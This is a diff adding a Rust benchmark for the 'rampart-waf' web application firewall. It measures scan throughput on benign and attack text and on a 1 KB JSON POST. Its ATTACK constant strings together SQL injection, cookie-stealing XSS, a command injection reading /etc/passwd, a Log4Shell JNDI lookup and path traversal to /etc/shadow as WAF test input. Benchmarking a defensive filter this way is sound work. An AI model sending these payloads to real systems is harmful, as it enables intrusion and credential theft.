@@ -1,0 +1,67 @@
+//! Engine throughput: MB/s of benign and attack text through one value scan, and
+//! the per-request cost of a 1 KB JSON POST (head + body). Run with
+//! `cargo bench -p rampart-waf --bench engine`.
+
+use criterion::{Criterion, Throughput, criterion_group, criterion_main};
+use http::{HeaderMap, HeaderValue, Method};
+use rampart_waf::{BodyScanner, Profile, ProfileConfig, RequestHead, inspect_head};
+use std::hint::black_box;
+
+const BENIGN: &str = "The quarterly report covers sales in Europe and Asia. Please select the right plan for your team, and note that O'Brien's order #A-10293 ships on Friday. Prices (incl. VAT) are listed at https://shop.example.com/pricing?plan=team&currency=EUR. ";
+const ATTACK: &str = "1' UNION SELECT username, password FROM users-- <script>alert(document.cookie)</script> ;cat /etc/passwd ${jndi:ldap://x/a} ../../etc/shadow ";
+
+fn body_1k() -> String {
+    let mut s = String::from("{\"order\":{\"id\":1042,\"customer\":{\"name\":\"Siobhán O'Brien\",\"email\":\"s.obrien@example.ie\"},\"items\":[");
+    let mut i = 0;
+    while s.len() < 900 {
+        s.push_str(&format!("{{\"sku\":\"SKU-{i:04}\",\"qty\":{},\"note\":\"gift wrap, please\"}},", i % 3 + 1));
+        i += 1;
+    }
+    s.push_str("{\"sku\":\"SKU-LAST\",\"qty\":1}],\"comment\":\"Leave it with the neighbour if I'm out.\"}}");
+    s
+}
+
+fn bench(c: &mut Criterion) {
+    let profile = Profile::compile("bench", &ProfileConfig::default()).expect("default profile compiles");
+    let mut g = c.benchmark_group("text");
+    for (name, unit) in [("benign", BENIGN), ("attack", ATTACK)] {
+        let text = unit.repeat(64 * 1024 / unit.len());
+        g.throughput(Throughput::Bytes(text.len() as u64));
+        g.bench_function(name, |b| {
+            let mut h = HeaderMap::new();
+            h.insert("content-type", HeaderValue::from_static("text/plain"));
+            let head = RequestHead { method: &Method::POST, path: "/", query: None, headers: &h, route: "r" };
+            b.iter(|| {
+                let s = BodyScanner::new(&profile, &head).expect("allowed type");
+                black_box(s.finish(black_box(text.as_bytes())))
+            })
+        });
+    }
+    g.finish();
+
+    let body = body_1k();
+    let mut g = c.benchmark_group("request");
+    g.throughput(Throughput::Bytes(body.len() as u64));
+    g.bench_function("json_1k_post", |b| {
+        let mut h = HeaderMap::new();
+        h.insert("content-type", HeaderValue::from_static("application/json"));
+        h.insert("content-length", HeaderValue::from(body.len()));
+        h.insert("user-agent", HeaderValue::from_static("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"));
+        h.insert("cookie", HeaderValue::from_static("sid=5c274378416f3131c1d878ee28; theme=dark"));
+        let head = RequestHead { method: &Method::POST, path: "/api/v1/orders/1042", query: Some("expand=items&lang=en"), headers: &h, route: "r" };
+        b.iter(|| {
+            let v = inspect_head(&profile, &head);
+            let mut s = BodyScanner::new(&profile, &head).expect("allowed type");
+            let _ = s.feed(body.as_bytes());
+            black_box((v, s.finish(black_box(body.as_bytes()))))
+        })
+    });
+    g.finish();
+}
+
+criterion_group! {
+    name = benches;
+    config = Criterion::default().sample_size(20).measurement_time(std::time::Duration::from_secs(3)).warm_up_time(std::time::Duration::from_secs(1));
+    targets = bench
+}
+criterion_main!(benches);
